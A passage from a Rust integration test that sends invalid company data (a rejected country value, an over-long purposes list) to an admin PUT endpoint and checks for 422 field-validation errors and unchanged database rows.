            "/company",
            {
                let mut c = company();
                c["country"] = json!("Germany");
                c
            },
            422,
            "country",
        ),
        (
            "PUT",
            "/company",
            {
                let mut c = company();
                c["purposes"] = json!(vec!["p"; 21]);
                c
            },
            422,
            "purposes",
        ),
    ];
    for (method, path, body, status, field) in cases {
        let method = reqwest::Method::from_bytes(method.as_bytes()).expect("method");
        let (got, answer) = app.admin(method, path, Some(&body)).await;
        let code = if status == 413 {
            "too_large"
        } else {
            "invalid_field"
        };
        assert_error(got, &answer, status, code);
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.starts_with(&format!("{field} ")),
            "{path}: the message names {field}: {message}"
        );
        assert_eq!(rows(&app).await, before, "{path} {body}");
    }
}
